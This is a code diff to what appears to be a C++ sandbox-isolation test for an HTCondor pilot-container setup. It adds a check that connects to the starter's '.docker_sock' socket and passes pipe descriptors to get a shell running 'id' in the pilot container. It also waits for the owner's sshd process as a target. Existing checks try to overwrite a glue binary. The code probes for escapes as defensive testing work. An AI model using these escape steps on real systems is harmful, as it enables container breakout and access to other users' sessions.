@@ -5,6 +5,7 @@
 #include <grp.h>
 #include <linux/bpf.h>
 #include <linux/keyctl.h>
+#include <poll.h>
 #include <sched.h>
 #include <signal.h>
 #include <sys/ioctl.h>
@@ -265,6 +266,60 @@ void sockets() {
   report("abstract sockets of the pod", breach);
 }
 
+void send_descriptor(int socket, int fd) {
+  char byte = 0;
+  iovec part{&byte, 1};
+  alignas(cmsghdr) char space[CMSG_SPACE(sizeof fd)] = {};
+  msghdr message{};
+  message.msg_iov = &part;
+  message.msg_iovlen = 1;
+  message.msg_control = space;
+  message.msg_controllen = sizeof space;
+  cmsghdr* header = CMSG_FIRSTHDR(&message);
+  header->cmsg_level = SOL_SOCKET;
+  header->cmsg_type = SCM_RIGHTS;
+  header->cmsg_len = CMSG_LEN(sizeof fd);
+  std::memcpy(CMSG_DATA(header), &fd, sizeof fd);
+  sendmsg(socket, &message, MSG_NOSIGNAL);
+}
+
+// HTCondor's starter listens in the sandbox: three descriptors, and it starts a shell with them, as far as it knows in
+// the job's container. It would be one in the pilot's.
+void starter() {
+  sockaddr_un address{};
+  address.sun_family = AF_UNIX;
+  std::strcpy(address.sun_path, ".docker_sock");
+  const int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+  int in[2], out[2];
+  std::string shown;
+  if (pipe2(in, O_CLOEXEC) == 0 && pipe2(out, O_CLOEXEC) == 0 &&
+      connect(fd, reinterpret_cast<const sockaddr*>(&address), sizeof address) == 0) {
+    const char* commands = "echo breach; id; exit\n";
+    write(in[1], commands, std::strlen(commands));
+    for (const int end : {in[0], out[1], out[1]}) send_descriptor(fd, end);
+    close(in[1]);
+    close(out[1]);
+    pollfd answer{out[0], POLLIN, 0};
+    char piece[512];
+    ssize_t got = 0;
+    while (poll(&answer, 1, 5000) > 0 && (got = read(out[0], piece, sizeof piece)) > 0) shown.append(piece, got);
+  }
+  close(fd);
+  report("a shell in the pilot container, by the starter's socket",
+         shown.find("breach") == std::string::npos ? "" : shown);
+}
+
+// The owner's ssh session, if the test has one come: its sshd runs under this job's user id in the pilot container.
+void wait_for(const char* name) {
+  const auto there = [&] {
+    for (const auto& process : processes())
+      if (process.name == name && process.uid == static_cast<int>(getuid())) return true;
+    return false;
+  };
+  for (int i = 0; i < 600 && !there(); ++i) usleep(100000);
+  report(std::string("(") + name + " is there to be attacked)", there() ? "" : "it never came");
+}
+
 void files() {
   report("write glue", open("/glidepod/bin/glue", O_WRONLY) >= 0 ? "opened" : "");
   report("replace glue", rename("/proc/self/exe", "/glidepod/bin/glue") == 0 || unlink("/glidepod/bin/glue") == 0 ||
@@ -348,10 +403,12 @@ void system_calls() {
 }  // namespace
 
 int main() {
+  if (const char* name = std::getenv("WAIT_FOR")) wait_for(name);
   identity();
   setuid_program();
   other_processes();
   sockets();
+  starter();
   files();
   system_calls();
   return 0;
